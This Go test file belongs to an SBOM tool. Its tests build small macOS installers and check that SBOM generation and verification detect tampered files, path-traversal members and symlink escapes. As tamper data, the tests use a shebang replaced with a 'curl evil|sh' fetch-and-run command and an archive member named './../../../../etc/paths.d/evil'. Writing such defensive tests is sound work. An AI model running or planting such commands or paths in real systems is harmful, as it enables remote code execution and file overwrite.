package artifact

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sbomkeeper/sbomkeeper/internal/archive"
	"github.com/sbomkeeper/sbomkeeper/internal/config"
	"github.com/sbomkeeper/sbomkeeper/internal/rules"
	"github.com/sbomkeeper/sbomkeeper/internal/safefile"
	"github.com/sbomkeeper/sbomkeeper/internal/spdx"
	"github.com/sbomkeeper/sbomkeeper/internal/xar/xartest"
)

const macCfgText = `
[[sbom]]
path = "sbom.json"
kind = "gomod"

[artifact]
document_name = "Demo SBOM"
namespace = "https://example.org/{version_base}/{artifact}.spdx.json"
creators = ["Organization: Demo"]
license_list_version = "3.25"
supplier = "Organization: Demo"
source_sbom = "sbom.json"
macos_sbom = "Misc/macos.spdx.json"

[artifact.package]
spdxid = "SPDXRef-PACKAGE-demo"
name = "Demo"
license = "MIT"
download_url = "https://example.org/{version_base}/{artifact}"

[[artifact.kind]]
name = "macos-installer"
type = "macos-installer"
match = '^demo-([0-9.]+)-macos11\.pkg$'
compiled = true
`

// macSourceDir is a source tree with the source SBOM (zlib) and the macOS
// libraries' SBOM (OpenSSL).
func macSourceDir(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "Misc"), 0o755)
	os.WriteFile(filepath.Join(dir, "sbom.json"), []byte(`{"SPDXID": "SPDXRef-DOCUMENT", "spdxVersion": "SPDX-2.3",
 "packages": [{"SPDXID": "SPDXRef-PACKAGE-zlib", "name": "zlib", "versionInfo": "1.3", "primaryPackagePurpose": "SOURCE", "downloadLocation": "NOASSERTION", "licenseConcluded": "Zlib"}],
 "files": [], "relationships": []}`), 0o644)
	os.WriteFile(filepath.Join(dir, "Misc", "macos.spdx.json"), []byte(`{"SPDXID": "SPDXRef-DOCUMENT", "spdxVersion": "SPDX-2.3",
 "packages": [{"SPDXID": "SPDXRef-PACKAGE-OpenSSL", "name": "OpenSSL", "versionInfo": "3.0.16", "primaryPackagePurpose": "SOURCE",
   "downloadLocation": "https://github.com/openssl/openssl/releases/download/openssl-3.0.16/openssl-3.0.16.tar.gz", "licenseConcluded": "Apache-2.0",
   "checksums": [{"algorithm": "SHA256", "checksumValue": "57e03c50feab5d31b152af2b764f10379aecd8ee92f16c985983ce4a99f7ef86"}]}],
 "files": [], "relationships": []}`), 0o644)
	return dir
}

// macComponents is an installer in miniature: the framework in a pbzx
// Payload (as recent installers have it), the command-line tools gzip'd.
func macComponents(python string) []xartest.Component {
	return []xartest.Component{
		{Name: "Python_Framework.pkg", Compression: "pbzx", Members: []xartest.Member{
			{Name: ".", Dir: true},
			{Name: "./Versions", Dir: true},
			{Name: "./Versions/3.13", Dir: true},
			{Name: "./Versions/3.13/bin", Dir: true},
			{Name: "./Versions/3.13/bin/python3.13", Data: []byte(python)},
			{Name: "./Versions/3.13/lib", Dir: true},
			{Name: "./Versions/3.13/lib/libssl.3.dylib", Data: []byte("openssl 3.0.16, built")},
		}},
		{Name: "Python_Command_Line_Tools.pkg", Members: []xartest.Member{
			{Name: ".", Dir: true},
			{Name: "./usr", Dir: true},
			{Name: "./usr/local", Dir: true},
			{Name: "./usr/local/bin", Dir: true},
			{Name: "./usr/local/bin/idle3.13", Data: []byte("#!/usr/bin/env python3.13\n")},
		}},
	}
}

func writePkg(t *testing.T, dir string, comps []xartest.Component) string {
	t.Helper()
	path := filepath.Join(dir, "demo-1.0-macos11.pkg")
	if err := os.WriteFile(path, xartest.Product(xartest.Distribution(comps), comps, xartest.Options{}), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func macOptions(t *testing.T) Options {
	t.Helper()
	c, err := config.Parse("c.toml", []byte(macCfgText))
	if err != nil {
		t.Fatal(err)
	}
	return Options{Config: c.Artifact, SourceDir: macSourceDir(t), Now: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC), Tool: "Tool: test"}
}

// TestMacOSInstaller: a .pkg made by the test helper gets an SBOM with the
// installer's checksum, the macOS libraries and the source SBOM's packages,
// and every file its Payloads install; verify passes on it and fails on a
// tampered one naming the file.
func TestMacOSInstaller(t *testing.T) {
	opts := macOptions(t)
	pkg := writePkg(t, t.TempDir(), macComponents("python 3.13.5"))
	out, err := Generate(context.Background(), pkg, opts)
	if err != nil {
		t.Fatal(err)
	}
	doc, err := spdx.Parse(out)
	if err != nil {
		t.Fatal(err)
	}
	var files []string
	for _, f := range doc.Files {
		s, _ := spdx.FileChecksum(&f, "SHA256")
		files = append(files, f.FileName+" "+s[:8])
	}
	_, pySum := sums("python 3.13.5")
	_, idleSum := sums("#!/usr/bin/env python3.13\n")
	for _, want := range []string{"Python_Framework.pkg/Versions/3.13/bin/python3.13 " + pySum[:8], "Python_Command_Line_Tools.pkg/usr/local/bin/idle3.13 " + idleSum[:8], "Python_Framework.pkg/Versions/3.13/lib/libssl.3.dylib"} {
		if !strings.Contains(strings.Join(files, "\n"), want) {
			t.Errorf("files %q lack %q", files, want)
		}
	}
	if len(files) != 3 {
		t.Errorf("files %q: want the three regular files", files)
	}
	pkgs := map[string]spdx.Package{}
	for _, p := range doc.Packages {
		pkgs[p.Name] = p
	}
	top, ok := pkgs["Demo"]
	data, _ := os.ReadFile(pkg)
	_, whole := sums(string(data))
	if sum, _ := top.SHA256(); !ok || sum != whole || top.PackageFileName != "demo-1.0-macos11.pkg" || top.VersionInfo != "1.0" {
		t.Errorf("top package %+v", top)
	}
	if top.PackageVerificationCode == nil || top.FilesAnalyzed == nil || !*top.FilesAnalyzed {
		t.Errorf("top package has no verification code: %+v", top)
	}
	if p, ok := pkgs["OpenSSL"]; !ok || p.VersionInfo != "3.0.16" || p.PrimaryPackagePurpose != "LIBRARY" {
		t.Errorf("OpenSSL from the macOS SBOM: %+v", p)
	}
	if _, ok := pkgs["zlib"]; !ok {
		t.Errorf("zlib from the source SBOM missing: %v", pkgs)
	}
	contains := 0
	for _, r := range doc.Relationships {
		if r.SPDXElementID == "SPDXRef-PACKAGE-demo" && r.RelationshipType == "CONTAINS" {
			contains++
		}
	}
	if contains != 3 {
		t.Errorf("%d CONTAINS relationships, want 3", contains)
	}

	findings, err := Verify(context.Background(), pkg, "demo.spdx.json", out, archive.Limits{}, nil)
	if err != nil || len(findings) != 0 {
		t.Fatalf("verify of the untouched installer: %v %v", findings, err)
	}

	// The same installer rebuilt with one file changed: the XAR is
	// consistent, but the file is not the one the SBOM lists.
	tampered := writePkg(t, t.TempDir(), macComponents("python 3.13.5, with a backdoor"))
	findings, err = Verify(context.Background(), tampered, "demo.spdx.json", out, archive.Limits{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	var named bool
	for _, f := range findings {
		if f.Severity == rules.Error && f.File == "Python_Framework.pkg/Versions/3.13/bin/python3.13" && strings.Contains(f.Message, "differs from the SBOM") {
			named = true
		}
	}
	if !named || len(findings) != 2 { // the file, and the installer's own checksum
		t.Errorf("findings of the tampered installer: %+v", findings)
	}

	// Bytes changed in place: the XAR's own checksums catch it.
	raw := bytes.Replace(data, []byte("#!/usr/bin/env python3.13"), []byte("#!/bin/sh -c 'curl evil|sh'"), 1)
	if bytes.Equal(raw, data) {
		// The gzip'd payload hides the text; change a byte of the heap's end instead.
		raw = bytes.Clone(data)
		raw[len(raw)-30] ^= 0xff
	}
	inPlace := filepath.Join(t.TempDir(), "demo-1.0-macos11.pkg")
	os.WriteFile(inPlace, raw, 0o644)
	if _, err := Verify(context.Background(), inPlace, "demo.spdx.json", out, archive.Limits{}, nil); err == nil {
		t.Error("verify accepted an installer changed in place")
	}
}

// TestMacOSInstallerRefusesHostile: a hostile payload fails artifact with an
// error naming the installer and the member.
func TestMacOSInstallerRefusesHostile(t *testing.T) {
	opts := macOptions(t)
	comps := []xartest.Component{{Name: "Python_Framework.pkg", Members: []xartest.Member{{Name: "./../../../../etc/paths.d/evil", Data: []byte("/tmp\n")}}}}
	pkg := writePkg(t, t.TempDir(), comps)
	_, err := Generate(context.Background(), pkg, opts)
	// Generate's errors carry the text of the walk's, not its chain.
	if err == nil || !strings.Contains(err.Error(), archive.ErrUnsafeName.Error()) || !strings.Contains(err.Error(), "demo-1.0-macos11.pkg:Python_Framework.pkg/Payload") || !strings.Contains(err.Error(), "etc/paths.d/evil") {
		t.Fatalf("error %v", err)
	}

	comps = []xartest.Component{{Name: "Python_Framework.pkg", Members: []xartest.Member{{Name: "./Current", Symlink: "3.13"}, {Name: "./a", Data: []byte("a")}}}}
	pkg = writePkg(t, t.TempDir(), comps)
	if _, err := Generate(context.Background(), pkg, opts); err == nil || !strings.Contains(err.Error(), archive.ErrLink.Error()) {
		t.Fatalf("symlink without AllowLinks: %v", err)
	}
	opts.Limits.AllowLinks = true
	out, err := Generate(context.Background(), pkg, opts)
	if err != nil || !bytes.Contains(out, []byte(`"Python_Framework.pkg/a"`)) || bytes.Contains(out, []byte("Current")) {
		t.Fatalf("symlink with AllowLinks: %v\n%s", err, out)
	}
}

// TestMacOSInstallerNeedsMacOSSBOM: the kind without macos_sbom is a config
// error that says which key to add.
func TestMacOSInstallerNeedsMacOSSBOM(t *testing.T) {
	_, err := config.Parse("c.toml", []byte(strings.Replace(macCfgText, `macos_sbom = "Misc/macos.spdx.json"`, "", 1)))
	if err == nil || !strings.Contains(err.Error(), "macos_sbom") {
		t.Fatalf("error %v", err)
	}
}

// TestBuiltSBOMLinkOutOfSourceDir: an SBOM the source tree names is read
// inside --source-dir only; a symbolic link out of it is refused, naming the
// link, rather than followed to whatever it points at.
func TestBuiltSBOMLinkOutOfSourceDir(t *testing.T) {
	opts := macOptions(t)
	outside := filepath.Join(t.TempDir(), "elsewhere.spdx.json")
	data, err := os.ReadFile(filepath.Join(opts.SourceDir, "Misc", "macos.spdx.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(outside, data, 0o644); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(opts.SourceDir, "Misc", "macos.spdx.json")
	os.Remove(link)
	if err := os.Symlink(outside, link); err != nil {
		t.Skip("no symbolic links here:", err)
	}
	pkg := writePkg(t, t.TempDir(), macComponents("python 3.13.5"))
	_, err = Generate(context.Background(), pkg, opts)
	var esc *safefile.EscapeError
	if !errors.As(err, &esc) || !strings.Contains(err.Error(), "macos.spdx.json") {
		t.Fatalf("err = %v, want an escape naming Misc/macos.spdx.json", err)
	}
}
